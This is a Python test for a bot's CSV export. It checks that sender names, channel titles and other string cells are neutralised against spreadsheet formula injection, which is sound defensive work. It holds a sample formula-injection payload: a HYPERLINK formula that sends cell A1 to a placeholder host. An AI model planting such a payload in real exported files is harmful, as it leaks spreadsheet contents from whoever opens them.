"""/export (bot/ngo/stats.py): every string cell is neutralised, not only the ad's text: a forwarded channel's title
or a sender's name (`origin`) is attacker-controlled too (issue 13, item 1)."""
from __future__ import annotations

import csv
import io

from bot.ngo import stats
from classifier import Checker
from tests.conftest import LURES
from tests.integration.storage.conftest import ADMIN

SEEKER, NGO = 601, 602
HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Click")'


def test_export_neutralises_origin_and_every_string_cell(store):
    store.set_user_role(NGO, "ngo")
    checker = Checker()
    store.record_check(NGO, checker.check("@" + LURES["vi"]), "+" + LURES["vi"], HYPERLINK)
    cid = store.record_check(SEEKER, checker.check(LURES["ko"]))
    store.add_report(cid, SEEKER, "-" + LURES["ko"], HYPERLINK)
    for actor, sources in ((NGO, {"submitted", "report"}), (ADMIN, {"report"})):
        data, n = stats.export_csv(store, actor)
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        assert n == len(rows) - 1 and {r[0] for r in rows[1:]} == sources
        cells = [c for r in rows for c in r]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
        head = rows[0]
        origins = [r[head.index("origin")] for r in rows[1:] if r[head.index("origin")]]
        assert origins and all(o == "'" + HYPERLINK for o in origins)
